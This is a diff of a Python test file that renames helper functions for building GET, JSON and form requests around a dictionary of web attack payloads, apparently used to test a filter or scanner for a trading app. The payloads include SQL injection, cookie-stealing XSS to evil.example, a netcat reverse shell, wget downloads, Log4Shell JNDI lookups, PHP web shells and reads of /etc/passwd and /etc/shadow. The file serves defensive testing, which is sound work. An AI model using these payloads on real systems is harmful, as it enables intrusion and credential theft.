@@ -17,12 +17,12 @@ class Request:
     body: str = ""
 
 
-def _asked(*values: str) -> list[Request]:
+def _in_parameters(*values: str) -> list[Request]:
     """Return a GET with each value as a parameter."""
     return [Request("GET", f"{{}}?q={quote(value)}") for value in values]
 
 
-def _told(*values: str) -> list[Request]:
+def _in_json(*values: str) -> list[Request]:
     """Return a POST with each value in a JSON document."""
     documents = [value.replace("\\", "\\\\").replace('"', '\\"') for value in values]
     return [
@@ -31,7 +31,7 @@ def _told(*values: str) -> list[Request]:
     ]
 
 
-def _filled(*values: str) -> list[Request]:
+def _in_form(*values: str) -> list[Request]:
     """Return a POST with each value in a form."""
     return [
         Request("POST", "{}", {"Content-Type": "application/x-www-form-urlencoded"}, f"name=x&text={quote(value)}")
@@ -41,7 +41,7 @@ def _filled(*values: str) -> list[Request]:
 
 ATTACKS = {
     "SQL injection": [
-        *_asked(
+        *_in_parameters(
             "1' OR '1'='1",
             "7 UNION ALL SELECT trader, hash FROM api_keys--",
             "1; DROP TABLE orders--",
@@ -53,13 +53,13 @@ ATTACKS = {
             "1' || pg_sleep(7)--",
             "0x31 OR 2>1 HAVING 1=1",
         ),
-        *_told("x' OR 'a'='a' --", "'; INSERT INTO orders VALUES (1); --", "1' UNION SELECT password FROM users --"),
-        *_filled("1' AND (SELECT 1 FROM (SELECT SLEEP(6))a)-- -", "' or 1=1 limit 1 -- "),
+        *_in_json("x' OR 'a'='a' --", "'; INSERT INTO orders VALUES (1); --", "1' UNION SELECT password FROM users --"),
+        *_in_form("1' AND (SELECT 1 FROM (SELECT SLEEP(6))a)-- -", "' or 1=1 limit 1 -- "),
         Request("GET", "{}", {"Cookie": "tradefleet_client=1' UNION SELECT 1,2,3--"}),
         Request("GET", "{}", {"User-Agent": "x' OR 1=1 UNION SELECT NULL, current_user--"}),
     ],
     "cross-site scripting": [
-        *_asked(
+        *_in_parameters(
             "<script>fetch('//evil.example/'+document.cookie)</script>",
             '"><img src=x onerror=alert(7)>',
             "<svg/onload=prompt(1)>",
@@ -71,13 +71,13 @@ ATTACKS = {
             "<math><mtext></form><form><style></math><img src onerror=alert(1)>",
             "'-alert(1)-'<script>",
         ),
-        *_told("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
-        *_filled("<input autofocus onfocus=alert(1)>", "<object data='javascript:alert(1)'>"),
+        *_in_json("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
+        *_in_form("<input autofocus onfocus=alert(1)>", "<object data='javascript:alert(1)'>"),
         Request("GET", "{}", {"Referer": "https://tradefleet.test/<script>alert(1)</script>"}),
         Request("GET", "{}", {"User-Agent": "<script>alert('agent')</script>"}),
     ],
     "files of the host": [
-        *_asked(
+        *_in_parameters(
             "../../../../etc/passwd",
             "....//....//....//etc/shadow",
             "..\\..\\..\\windows\\win.ini",
@@ -90,10 +90,10 @@ ATTACKS = {
         Request("GET", "{}.git/config"),
         Request("GET", "{}.env"),
         Request("GET", "{}.htpasswd"),
-        *_told("../../../../etc/passwd"),
+        *_in_json("../../../../etc/passwd"),
     ],
     "files of others": [
-        *_asked(
+        *_in_parameters(
             "http://198.51.100.7/shell.txt?",
             "ftp://203.0.113.9/x.php?",
             "php://filter/convert.base64-encode/resource=index",
@@ -102,7 +102,7 @@ ATTACKS = {
         Request("GET", "{}?page=http://192.0.2.44/evil.txt"),
     ],
     "commands": [
-        *_asked(
+        *_in_parameters(
             "; cat /etc/passwd",
             "| nc -e /bin/sh 198.51.100.7 4444",
             "`wget http://198.51.100.7/x -O /tmp/x`",
@@ -115,12 +115,12 @@ ATTACKS = {
             "() { :; }; /bin/id",
             "${IFS}/bin/cat${IFS}/etc/passwd",
         ),
-        *_told("; /usr/bin/id; uname -a", "$(/bin/cat /etc/shadow)"),
-        *_filled("x; python3 -c 'import os'", "|| /usr/bin/whoami"),
+        *_in_json("; /usr/bin/id; uname -a", "$(/bin/cat /etc/shadow)"),
+        *_in_form("x; python3 -c 'import os'", "|| /usr/bin/whoami"),
         Request("GET", "{}", {"User-Agent": "() { ignored; }; echo; /bin/cat /etc/passwd"}),
     ],
     "code for the server": [
-        *_asked(
+        *_in_parameters(
             "<?php system($_GET['c']); ?>",
             "<?= phpinfo(); ?>",
             "base64_decode('c3lzdGVt')($_POST[0])",
@@ -131,11 +131,11 @@ ATTACKS = {
             "java.lang.Runtime.getRuntime().exec('id')",
             "${(#a=@java.lang.Runtime@getRuntime())}",
         ),
-        *_told("${jndi:ldap://198.51.100.7/a}", 'O:8:\\"stdClass\\":0:{}<?php eval($_GET[1]); ?>'),
+        *_in_json("${jndi:ldap://198.51.100.7/a}", 'O:8:\\"stdClass\\":0:{}<?php eval($_GET[1]); ?>'),
         Request("GET", "{}", {"User-Agent": "${jndi:ldap://198.51.100.7/agent}"}),
     ],
     "sessions": [
-        *_asked("<script>document.cookie='session=1'</script>", "<meta http-equiv=Set-Cookie content=a=1>"),
+        *_in_parameters("<script>document.cookie='session=1'</script>", "<meta http-equiv=Set-Cookie content=a=1>"),
         Request("GET", "{}?q=.cookie%20;domain=evil.example"),
     ],
     "protocol": [
